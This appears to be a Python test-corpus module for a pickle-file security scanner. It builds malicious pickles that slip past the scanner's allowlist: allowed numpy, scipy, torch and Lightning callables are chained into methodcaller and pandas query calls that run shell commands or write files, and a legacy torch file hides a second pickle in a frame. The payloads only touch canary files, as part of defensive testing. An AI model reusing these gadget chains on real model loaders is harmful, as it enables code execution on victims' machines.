"""Corpus: what the adversarial review of the pickle engine's new allowances got past it.

The first two hid an ``operator.methodcaller`` (judged harmless while nothing calls it) in the
arguments of an allowed callable that *does* call it while the file loads:

- scikit-learn re-exports scipy's ``LinearOperator`` (``sklearn.utils.sparsefuncs``), which
  the ``sklearn`` family's class pattern admitted as a callable; ``LinearOperator(shape,
  matvec)`` calls ``matvec(numpy.zeros(n))`` to learn its dtype;
- a numpy ufunc on object arrays (``numpy.arctan2``, allowed) calls, for each pair of
  elements, the element's method of the same name: ``a.arctan2(b)``;
- numpy's ``Generator`` unpickler, ``numpy.random._pickle.__generator_ctor(name, ctor)``
  (allowed), calls ``ctor(name)``: any callable, with any argument;
- torch's ``_rebuild_from_type_v2(func, new_type, args, state)`` (allowed, and known to call
  ``func``) calls ``ret.as_subclass(new_type)`` on what ``func(*args)`` returns: Lightning's
  ``AttributeDict`` (allowed) answers attribute lookups with its items, so a
  ``methodcaller('query', df, '@torch.os.system(...)')`` stored under ``as_subclass`` runs
  ``pandas.DataFrame.query``, whose ``@`` names reach the globals of the calling frame
  (``torch._tensor``'s): a shell command, through the wrapper the engine had let through
  because the only code it is handed to was ``_rebuild_from_type_v2``;
- a BUILD calls ``getattr(obj, "__setstate__")``: an ``AttributeDict`` answers with the item
  of that name (and any object with a ``__dict__`` with the instance attribute a first BUILD
  planted, since a class's method does not shadow it), so a methodcaller stored there runs
  ``DataFrame.query`` on the BUILD's state, a DataFrame: ``@pickle.sys.modules["os"]``
  resolves in the frame that called ``pickle.load`` (the user's script, ``torch.load``,
  ``pandas.read_pickle``), all of which import pickle; APPEND on an object that is not a list
  calls its ``extend`` / ``append`` the same way (ADDITEMS its ``add``).

In both the methodcaller is ``methodcaller('tofile', path)`` applied to an array: it writes
the file at ``path`` (the canary; with ``sep`` and ``format`` arguments, chosen text around
each number, enough for a ``.pth`` file that the next Python start runs).

The third is a legacy ``torch.save`` file whose first pickle (the magic number) stops inside a
frame with a payload pickle left in it: ``torch.load(path)`` reads from a buffered file, whose
next load starts right after the STOP and runs the payload; the layout walker started the next
pickle at the frame's end, as an unbuffered file or ``io.BytesIO`` does, and never read it.
"""

from __future__ import annotations

import operator
import pickle
import struct
import sys
import types
from pathlib import Path

from tests.corpus import Sample, file_sample, system_call
from tests.corpus.torch import LEGACY_MAGIC, legacy_stream

_PICKLE_LOAD = "import pickle\nwith open(ARTIFACT, 'rb') as f:\n    pickle.load(f)\n"
_PANDAS_LOAD = "import pandas\npandas.read_pickle(ARTIFACT)\n"
_TORCH_LOAD = "import torch\ntorch.load(ARTIFACT, weights_only=False)\n"
_RULES = ("MLS-PKL-001", "MLS-PKL-002", "MLS-PKL-003", "MLS-PKL-017")


def _as_global(data: bytes, real: bytes, spelled: bytes) -> bytes:
    """Respell a protocol 2 GLOBAL (``c<module>\\n<name>\\n``) the way the payload names it."""
    assert real in data, (real, data)
    return data.replace(real, spelled)


class _Reduce:
    def __init__(self, func: object, args: tuple[object, ...]) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.func, self.args


def _linear_operator_calls_a_methodcaller(canary: Path) -> bytes:
    # sklearn.utils.sparsefuncs.LinearOperator((1, 1), methodcaller('tofile', canary)):
    # LinearOperator(shape, matvec) calls matvec(numpy.zeros(1)), i.e. zeros(1).tofile(canary).
    from scipy.sparse.linalg import LinearOperator

    payload = _Reduce(LinearOperator, ((1, 1), operator.methodcaller("tofile", str(canary))))
    return _as_global(
        pickle.dumps(payload, protocol=2),
        b"cscipy.sparse.linalg._interface\nLinearOperator\n",
        b"csklearn.utils.sparsefuncs\nLinearOperator\n",
    )


def _stand_in(name: str) -> object:
    """A function pickle writes as ``_rev1_stand_in.<name>``, respelled afterwards."""
    module = sys.modules.setdefault("_rev1_stand_in", types.ModuleType("_rev1_stand_in"))

    def stand_in() -> None: ...

    stand_in.__module__, stand_in.__qualname__, stand_in.__name__ = module.__name__, name, name
    setattr(module, name, stand_in)
    return stand_in


def _ufunc_calls_a_methodcaller(canary: Path) -> bytes:
    # numpy.arctan2(a, b) on object arrays calls a[0].arctan2(b[0]): a[0] is a SimpleNamespace
    # whose arctan2 is methodcaller('tofile', canary), b[0] an array, which writes the canary.
    import numpy as np

    holder = np.empty(1, dtype=object)
    holder[0] = types.SimpleNamespace(arctan2=operator.methodcaller("tofile", str(canary)))
    target = np.empty(1, dtype=object)
    target[0] = np.zeros(1)
    payload = _Reduce(_stand_in("arctan2"), (holder, target))
    return _as_global(
        pickle.dumps(payload, protocol=2), b"c_rev1_stand_in\narctan2\n", b"cnumpy\narctan2\n"
    )


def _legacy_magic_frame_hides_a_pickle(canary: Path) -> bytes:
    # FRAME [magic number's opcodes, STOP, os.system payload], then the rest of the file: a
    # buffered reader's next load starts after the STOP.
    magic = pickle.dumps(LEGACY_MAGIC, protocol=2)
    body = magic[2:] + system_call(canary)
    framed = b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body
    stream = legacy_stream()
    assert stream.startswith(magic)
    return framed + stream[len(magic) :]


def _generator_ctor_calls_a_methodcaller(canary: Path) -> bytes:
    # numpy.random._pickle.__generator_ctor(zeros(1), methodcaller('tofile', canary)) calls
    # methodcaller(zeros(1)) to make its bit generator: zeros(1).tofile(canary).
    import numpy as np

    payload = _Reduce(
        _stand_in("__generator_ctor"),
        (np.zeros(1), operator.methodcaller("tofile", str(canary))),
    )
    return _as_global(
        pickle.dumps(payload, protocol=2),
        b"c_rev1_stand_in\n__generator_ctor\n",
        b"cnumpy.random._pickle\n__generator_ctor\n",
    )


def _attribute_dict_runs_a_pandas_query(canary: Path) -> bytes:
    # _rebuild_from_type_v2(AttributeDict, DataFrame, ({"as_subclass": methodcaller("query",
    # df, expr)},), {}): ret = AttributeDict(...); ret.as_subclass(DataFrame) is
    # DataFrame.query(df, expr), and expr's @torch resolves in _rebuild_from_type_v2's globals.
    import pandas as pd

    # Built without torch (the README's test command runs without it): a stand-in respelled
    # as torch._tensor._rebuild_from_type_v2 below.
    _rebuild_from_type_v2 = _stand_in("_rebuild_from_type_v2")

    class AttributeDict(dict):  # Lightning's, respelled below
        pass

    AttributeDict.__module__, AttributeDict.__qualname__ = "_rev1_stand_in", "AttributeDict"
    module = sys.modules.setdefault("_rev1_stand_in", types.ModuleType("_rev1_stand_in"))
    module.AttributeDict = AttributeDict  # type: ignore[attr-defined]
    query = operator.methodcaller(
        "query", pd.DataFrame({"a": [1]}), f'@torch.os.system("touch {canary}")'
    )
    payload = _Reduce(
        _rebuild_from_type_v2, (AttributeDict, pd.DataFrame, ({"as_subclass": query},), {})
    )
    data = _as_global(
        pickle.dumps(payload, protocol=2),
        b"c_rev1_stand_in\nAttributeDict\n",
        b"clightning_fabric.utilities.data\nAttributeDict\n",
    )
    return _as_global(
        data,
        b"c_rev1_stand_in\n_rebuild_from_type_v2\n",
        b"ctorch._tensor\n_rebuild_from_type_v2\n",
    )


def _attribute_dict_setstate_runs_a_pandas_query(canary: Path) -> bytes:
    # AttributeDict() with the item "__setstate__" = methodcaller("query", expr), then BUILD
    # with a DataFrame: BUILD calls methodcaller(df), i.e. df.query(expr).
    return _attribute_dict_dispatch(canary, "__setstate__", b"b")


def _attribute_dict_append_runs_a_pandas_query(canary: Path) -> bytes:
    # The item "append", then APPEND a DataFrame: the loader calls ad.append(df).
    return _attribute_dict_dispatch(canary, "append", b"a")


def _attribute_dict_dispatch(canary: Path, name: str, opcode: bytes) -> bytes:
    import pandas as pd

    attribute_dict = type("AttributeDict", (dict,), {"__module__": "_rev1_stand_in"})
    module = sys.modules.setdefault("_rev1_stand_in", types.ModuleType("_rev1_stand_in"))
    module.AttributeDict = attribute_dict  # type: ignore[attr-defined]
    planted = attribute_dict()
    planted[name] = operator.methodcaller(
        "query", f'@pickle.sys.modules["os"].system("touch {canary}")'
    )
    raw = pickle.dumps([planted, pd.DataFrame({"a": [1]})], protocol=2)
    # [planted, df] as [EMPTY_LIST, BINPUT 0, MARK, ..., APPENDS]: drop the list, and apply
    # BUILD or APPEND to the planted object instead.
    head = b"\x80\x02]q\x00("
    assert raw.startswith(head)
    assert raw.endswith(b"e.")
    return _as_global(
        b"\x80\x02" + raw[len(head) : -2] + opcode + b".",
        b"c_rev1_stand_in\nAttributeDict\n",
        b"clightning_fabric.utilities.data\nAttributeDict\n",
    )


SAMPLES: list[Sample] = [
    file_sample(
        "rev1-sklearn-reexported-linear-operator-calls-a-methodcaller",
        _linear_operator_calls_a_methodcaller,
        "scipy's LinearOperator, admitted under its scikit-learn re-export, calls the "
        "'harmless' methodcaller it is given: an array's tofile writes a chosen file",
        _PICKLE_LOAD,
        rules=_RULES,
        requires=("sklearn", "scipy"),
    ),
    file_sample(
        "rev1-sklearn-reexported-linear-operator-read-by-pandas",
        _linear_operator_calls_a_methodcaller,
        "the same LinearOperator payload, loaded with pandas.read_pickle",
        _PANDAS_LOAD,
        rules=_RULES,
        requires=("sklearn", "scipy", "pandas"),
    ),
    file_sample(
        "rev1-numpy-ufunc-calls-a-methodcaller-through-an-object-array",
        _ufunc_calls_a_methodcaller,
        "an allowed numpy ufunc on object arrays calls each element's method of its name: "
        "a methodcaller stored there runs an array's tofile",
        _PICKLE_LOAD,
        rules=_RULES,
        requires=("numpy",),
    ),
    file_sample(
        "rev1-numpy-generator-ctor-calls-a-methodcaller",
        _generator_ctor_calls_a_methodcaller,
        "numpy's allowed Generator unpickler calls the bit-generator constructor it is given "
        "with the name it is given: a methodcaller and an array",
        _PICKLE_LOAD,
        rules=_RULES,
        requires=("numpy",),
    ),
    file_sample(
        "rev1-attribute-dict-in-rebuild-from-type-runs-a-pandas-query",
        _attribute_dict_runs_a_pandas_query,
        "torch's _rebuild_from_type_v2 calls ret.as_subclass, which Lightning's AttributeDict "
        "answers with a stored methodcaller: DataFrame.query evaluates '@torch.os.system(...)'",
        _PICKLE_LOAD,
        rules=_RULES,
        requires=("pandas", "torch", "lightning_fabric"),
    ),
    file_sample(
        "rev1-attribute-dict-answers-setstate-with-a-pandas-query",
        _attribute_dict_setstate_runs_a_pandas_query,
        "BUILD on Lightning's AttributeDict calls its item '__setstate__', a methodcaller: "
        "DataFrame.query evaluates '@pickle.sys.modules[\"os\"].system(...)'",
        _PICKLE_LOAD,
        rules=_RULES,
        requires=("pandas", "lightning_fabric"),
    ),
    file_sample(
        "rev1-attribute-dict-setstate-query-read-by-pandas",
        _attribute_dict_setstate_runs_a_pandas_query,
        "the same AttributeDict __setstate__ payload, loaded with pandas.read_pickle",
        _PANDAS_LOAD,
        rules=_RULES,
        requires=("pandas", "lightning_fabric"),
    ),
    file_sample(
        "rev1-attribute-dict-answers-append-with-a-pandas-query",
        _attribute_dict_append_runs_a_pandas_query,
        "APPEND on Lightning's AttributeDict calls its item 'append', a methodcaller: "
        "DataFrame.query evaluates '@pickle.sys.modules[\"os\"].system(...)'",
        _PICKLE_LOAD,
        rules=_RULES,
        requires=("pandas", "lightning_fabric"),
    ),
    file_sample(
        "rev1-legacy-torch-magic-number-frame-hides-a-pickle",
        _legacy_magic_frame_hides_a_pickle,
        "a legacy torch.save file whose magic-number pickle stops inside a frame: torch.load "
        "of the path (a buffered file) reads the payload left in the frame next",
        _TORCH_LOAD,
        filename="model.pt",
        rules=("MLS-PKL-001", "MLS-PKL-002"),
        requires=("torch",),
    ),
]
